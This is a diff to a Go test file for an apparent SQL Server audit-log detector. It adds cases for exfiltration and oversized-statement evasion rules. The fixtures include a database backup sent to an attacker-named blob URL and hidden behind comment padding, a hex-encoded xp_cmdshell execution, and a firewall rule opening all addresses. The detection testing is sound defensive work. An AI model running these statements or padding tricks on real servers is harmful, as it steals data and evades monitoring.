@@ -38,6 +38,12 @@ func fails(n int, ipAddr string, principal func(i int) string, step time.Duratio
 	})
 }
 
+// paddedBackup is the evasion of issue 9: COPY_ONLY after a comment of n
+// characters.
+func paddedBackup(n int) string {
+	return "BACKUP DATABASE [Sales] TO URL = N'https://evilacct.blob.core.windows.net/loot/sales.bak' /*" + strings.Repeat("x", n) + "*/ WITH COPY_ONLY"
+}
+
 // padTo appends a block comment so that s is n characters long.
 func padTo(s string, n int) string {
 	return s + " /*" + strings.Repeat("-", n-len(s)-5) + "*/"
@@ -74,6 +80,10 @@ var ruleCases = map[string][]ruleCase{
 		{name: "approved principal, foreign app", recs: []audit.Record{rec("BA", "DB", approvedURL, svc, app("sqlcmd"))}, want: []string{"EXF-002/high"}},
 		{name: "approved principal, foreign ip", recs: []audit.Record{rec("BA", "DB", approvedURL, svc, ip("192.168.7.7"))}, want: []string{"EXF-002/high"}},
 		{name: "no copy_only", recs: []audit.Record{rec("BAL", "DB", approvedLog)}},
+		{name: "copy_only after 600,000 characters of padding", recs: []audit.Record{rec("BA", "DB", paddedBackup(600_000))}, want: []string{"EXF-002/high"}},
+		{name: "copy_only in the tail of an elided statement", recs: []audit.Record{rec("BA", "DB", paddedBackup(10), func(r *audit.Record) {
+			r.Elided = audit.Elision{At: 90, Dropped: 9 << 20, Units: 10 << 20}
+		})}, want: []string{"EXF-002/high"}},
 		{name: "copy_only word in a literal only", recs: []audit.Record{rec("BA", "DB", "BACKUP DATABASE s TO DISK = 'D:\\Backups\\copy_only.bak'")}},
 		{name: "severity override", cfg: func(c *Config) { c.SeverityOverrides = map[string]string{"EXF-002": "medium"} }, recs: []audit.Record{rec("BA", "DB", approvedURL)}, want: []string{"EXF-002/medium"}},
 		{name: "disabled", cfg: func(c *Config) { c.DisabledRules = []string{"exf-002"} }, recs: []audit.Record{rec("BA", "DB", approvedURL)}},
@@ -351,6 +361,22 @@ var ruleCases = map[string][]ruleCase{
 		{name: "hex literal", recs: []audit.Record{rec("BCM", "", "DECLARE @c varchar(50) = CAST(0x78705F636D647368656C6C AS varchar(50)); EXEC(@c)")}, want: []string{"EXE-010/medium"}},
 		{name: "plain concatenation", recs: []audit.Record{rec("BCM", "", "SELECT 'Hello ' + 'world' + CHAR(10)")}},
 		{name: "plain call", recs: []audit.Record{rec("BCM", "", "EXEC sp_configure 'xp_cmdshell' + '', 0")}},
+	},
+	"EVA-001": {
+		{name: "padded backup", recs: []audit.Record{rec("BA", "DB", paddedBackup(600_000))}, want: []string{"EVA-001/medium"}, whyHas: "statement of 600"},
+		{name: "long batch, any action", recs: []audit.Record{rec("SL", "U", "SELECT 1 /*"+strings.Repeat("x", 70_000)+"*/")}, want: []string{"EVA-001/medium"}, whyHas: "SL statement"},
+		{name: "long batch without hints", recs: []audit.Record{rec("BCM", "DB", strings.Repeat("SELECT 1; ", 7000))}, want: []string{"EVA-001/medium"}},
+		{name: "counted in characters, not bytes", recs: []audit.Record{rec("BCM", "DB", strings.Repeat("日", 30_000))}},
+		{name: "astral characters count twice", recs: []audit.Record{rec("BCM", "DB", strings.Repeat("😀", 33_000))}, want: []string{"EVA-001/medium"}},
+		{name: "below the threshold", recs: []audit.Record{rec("BCM", "DB", padTo("INSERT INTO t VALUES (1)", 60_000))}},
+		{name: "elided by the reader", recs: []audit.Record{rec("BA", "DB", evilURL, func(r *audit.Record) {
+			r.Elided = audit.Elision{At: 20, Dropped: 9 << 20, Units: 10 << 20}
+		})}, want: []string{"EVA-001/high"}, whyHas: "only its first and last bytes"},
+		{name: "threshold setting", cfg: func(c *Config) { c.OversizedStatementChars = 1 << 20 }, recs: []audit.Record{rec("BA", "DB", paddedBackup(600_000))}},
+		{name: "allow-listed actors only through the rules file", recs: []audit.Record{rec("BCM", "DB", padTo("INSERT INTO t VALUES (1)", 70_000), svc)}, want: []string{"EVA-001/medium"}},
+		{name: "per-rule actor allow-list", cfg: func(c *Config) {
+			c.Rules = map[string]RuleConfig{"EVA-001": {AllowedPrincipals: []string{`CONTOSO\svc-backup`}}}
+		}, recs: []audit.Record{rec("BCM", "DB", padTo("INSERT INTO t VALUES (1)", 70_000), svc)}},
 	},
 	"EXE-011": {
 		{name: "firewall rule", recs: []audit.Record{rec("BCM", "", "EXECUTE sp_set_firewall_rule @name = N'any', @start_ip_address = '0.0.0.0', @end_ip_address = '255.255.255.255'")}, want: []string{"EXE-011/medium"}},
